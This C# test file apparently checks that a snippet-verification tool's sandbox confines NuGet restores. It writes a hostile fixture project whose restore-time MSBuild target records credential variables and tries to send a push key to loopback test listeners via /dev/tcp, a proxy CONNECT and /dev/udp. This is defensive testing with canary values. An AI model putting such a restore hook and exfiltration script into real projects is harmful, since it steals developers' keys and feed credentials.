using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Security;
using SnippetCheck.Tests.Infrastructure;
using Xunit.Abstractions;

namespace SnippetCheck.Tests.Hardening;

/// <summary>
/// A restore under <c>--untrusted</c> sees NuGet's own settings and the credentials of the feeds its config names, and
/// reaches those feeds alone (issue 74, finding 4; SECURITY.md, "What a snippet, a build and a restore may reach"). A <c>#:project</c>'s
/// target hooked to restore notes what it saw in its obj folder and tries to send the push key: straight to a TCP
/// listener of the test on a port a <c>nuget.config</c> source names, through the restore's own proxy, and over UDP.
/// A real package restore still works.
/// </summary>
[TakesSeconds(6)]
public sealed class RestoreConfinementTests(ITestOutputHelper output) : IDisposable
{
    private const string ApiKey = "PUSH-KEY-CANARY", DeployToken = "DEPLOY-CANARY", Undeclared = "UNDECLARED-FEED-CANARY",
        Declared = "Username=reader;Password=DECLARED-FEED-PASSWORD";

    private readonly TempFolder _folder = new();
    private readonly TcpListener _tcp = new(IPAddress.Loopback, 0);
    private readonly UdpClient _udp = new(new IPEndPoint(IPAddress.Loopback, 0));

    private int TcpPort => ((IPEndPoint)_tcp.LocalEndpoint).Port;

    private int UdpPort => ((IPEndPoint)_udp.Client.LocalEndPoint!).Port;

    private string Home => Path.Combine(_folder.Path, "home");

    /// <summary>
    /// What the hostile target runs as the restore evaluates the project: it notes the variables, then sends the key to
    /// the listener straight, through whatever proxy it was given (asking to CONNECT to the listener), and by UDP.
    /// </summary>
    private string StealScript() =>
        $"echo \"ran api=[$NUGET_API_KEY] deploy=[$NUGET_DEPLOY_TOKEN] undeclared=[$NuGetPackageSourceCredentials_elsewhere] " +
        $"declared=[$NuGetPackageSourceCredentials_mirror]\" >> '$(MSBuildProjectDirectory)/obj/restore-seen.txt'; " +
        $"echo \"tcp $NUGET_API_KEY\" > /dev/tcp/127.0.0.1/{TcpPort}; " +
        $"p=${{HTTPS_PROXY:-$https_proxy}}; p=${{p##*:}}; p=${{p%%/*}}; " +
        $"if [ -n \"$p\" ]; then exec 3<>/dev/tcp/127.0.0.1/$p && " +
        $"printf 'CONNECT 127.0.0.1:{TcpPort} HTTP/1.1\\r\\nHost: 127.0.0.1:{TcpPort}\\r\\n\\r\\nproxy %s\\n' \"$NUGET_API_KEY\" >&3 && " +
        $"timeout 5 head -c 40 <&3 >> '$(MSBuildProjectDirectory)/obj/restore-seen.txt'; fi; " +
        $"echo \"udp $NUGET_API_KEY\" > /dev/udp/127.0.0.1/{UdpPort}; true";

    private void WriteEvilProject()
    {
        _tcp.Start();
        // The repository's config names a source on the listener's port, on another address: today's port rule lets it through.
        _folder.Write("nuget.config", $"""
            <?xml version="1.0" encoding="utf-8"?>
            <configuration>
              <packageSources>
                <add key="mirror" value="https://127.0.0.2:{TcpPort}/v3/index.json" />
              </packageSources>
            </configuration>
            """);
        _folder.Write("evil/Lib.cs", "namespace Evil; public static class Lib { public static int Answer => 42; }");
        var script = "'" + StealScript().Replace("'", "'\\''", StringComparison.Ordinal) + "'";
        _folder.Write("evil/Evil.csproj", $"""
            <Project Sdk="Microsoft.NET.Sdk">
              <PropertyGroup>
                <TargetFramework>net10.0</TargetFramework>
              </PropertyGroup>
              <Target Name="StealOnRestore" BeforeTargets="Restore;_GenerateRestoreGraph">
                <Exec Command="bash -c {SecurityElement.Escape(script)}" ContinueOnError="true" />
              </Target>
            </Project>
            """);
        _folder.Write("posts/post.md", """
            ```csharp run
            #:project ../evil/Evil.csproj
            Console.WriteLine(Evil.Lib.Answer);
            ```

            ```output
            42
            ```
            """);
    }

    private CliResult Run(IDictionary<string, string?> environment, params string[] args)
    {
        Directory.CreateDirectory(Home);
        var result = CliRunner.Run(_folder.Path, environment, [.. args, "--cache-dir", "results", "-v"]);
        output.WriteLine($"$ snippetcheck {string.Join(' ', args)} → exit {result.ExitCode}\n{result.Output}");
        return result;
    }

    private Dictionary<string, string?> Environment(string packageCache) => new()
    {
        ["HOME"] = Home,
        ["NUGET_PACKAGES"] = null,
        ["NUGET_API_KEY"] = ApiKey,
        ["NUGET_DEPLOY_TOKEN"] = DeployToken,
        ["NuGetPackageSourceCredentials_elsewhere"] = Undeclared,
        ["NuGetPackageSourceCredentials_mirror"] = Declared,
        ["SNIPPETCHECK_PACKAGE_CACHE"] = Path.Combine(_folder.Path, packageCache),
    };

    /// <summary>What reached the UDP listener within a moment, or "" when nothing did.</summary>
    private string UdpReceived()
    {
        var watch = Stopwatch.StartNew();
        while (_udp.Available == 0 && watch.ElapsedMilliseconds < 500) Thread.Sleep(20);
        if (_udp.Available == 0) return "";
        IPEndPoint? from = null;
        return System.Text.Encoding.UTF8.GetString(_udp.Receive(ref from));
    }

    [SandboxFact(SandboxFeature.Network)]
    public void A_restore_target_sees_no_push_key_or_undeclared_credential_and_reaches_no_listener_by_tcp_proxy_or_udp()
    {
        WriteEvilProject();

        // Under --untrusted: a trusted run's own project is restored with the author's environment, as their own
        // 'dotnet build' would be (issue 75, item 6); its network is confined all the same.
        var result = Run(Environment("package-cache"), "verify", "posts/post.md", "--untrusted");

        Assert.True(result.ExitCode == 0, result.Output);
        var notes = Path.Combine(_folder.Path, "evil", "obj", "restore-seen.txt");
        Assert.True(File.Exists(notes), $"the restore's target never ran (no {notes}): the test proves nothing\n{result.Output}");
        var seen = File.ReadAllText(notes);
        output.WriteLine($"what the restore's target saw: {seen}");
        // (a) NuGet's settings pass, and the credentials of the one source the config declares; the push key and the rest do not.
        Assert.Contains("ran api=[] deploy=[] undeclared=[]", seen, StringComparison.Ordinal);
        Assert.Contains($"declared=[{Declared}]", seen, StringComparison.Ordinal);
        // (b) No TCP connection reached the listener, neither straight nor through the proxy, which refused it.
        Assert.False(_tcp.Pending(), "the restore connected to the test's TCP listener");
        Assert.Contains("403", seen, StringComparison.Ordinal);
        // (c) Nor did a UDP datagram.
        Assert.Equal("", UdpReceived());
        // The grant says what it could reach, and the refusal is in the report.
        Assert.Contains($"network: 127.0.0.2:{TcpPort}, api.nuget.org:443 only (the configured package sources)", result.Output,
            StringComparison.Ordinal);
        Assert.Contains($"refused 127.0.0.1:{TcpPort}", result.Output, StringComparison.Ordinal);
    }

    [SandboxFact(SandboxFeature.Network)]
    public void Unconfined_the_same_restore_target_leaks_the_push_key_by_tcp_and_udp()
    {
        WriteEvilProject();

        var result = Run(Environment("package-cache-unconfined"), "verify", "posts/post.md", "--no-sandbox", "--no-cache");

        // The control: the target runs and reaches everything, so the confined run's silence is the sandbox's doing.
        Assert.True(result.ExitCode == 0, result.Output);
        Assert.Contains($"api=[{ApiKey}]", File.ReadAllText(Path.Combine(_folder.Path, "evil", "obj", "restore-seen.txt")), StringComparison.Ordinal);
        Assert.True(_tcp.Pending(), "unconfined, the target should have reached the TCP listener");
        Assert.Contains(ApiKey, UdpReceived(), StringComparison.Ordinal);
    }

    [SandboxFact(SandboxFeature.Network)]
    public void A_package_from_the_feed_still_restores_through_the_proxy()
    {
        _folder.Write("posts/post.md", """
            ```csharp run
            #:package Newtonsoft.Json@13.0.3
            Console.WriteLine(Newtonsoft.Json.JsonConvert.SerializeObject(new { a = 1 }));
            ```

            ```output
            {"a":1}
            ```
            """);
        var watch = Stopwatch.StartNew();

        // A HOME of its own: an empty global packages folder, so the package comes from the feed.
        var result = Run(Environment("package-cache"), "verify", "posts/post.md");

        output.WriteLine($"cold verify with one #:package: {watch.Elapsed.TotalSeconds:0.0} s");
        Assert.True(result.ExitCode == 0, result.Output);
        Assert.True(Directory.Exists(Path.Combine(Home, ".nuget", "packages", "newtonsoft.json", "13.0.3")), result.Output);
        Assert.Contains("network: api.nuget.org:443 only (the configured package sources)", result.Output, StringComparison.Ordinal);
    }

    public void Dispose()
    {
        _tcp.Dispose();
        _udp.Dispose();
        _folder.Dispose();
    }
}
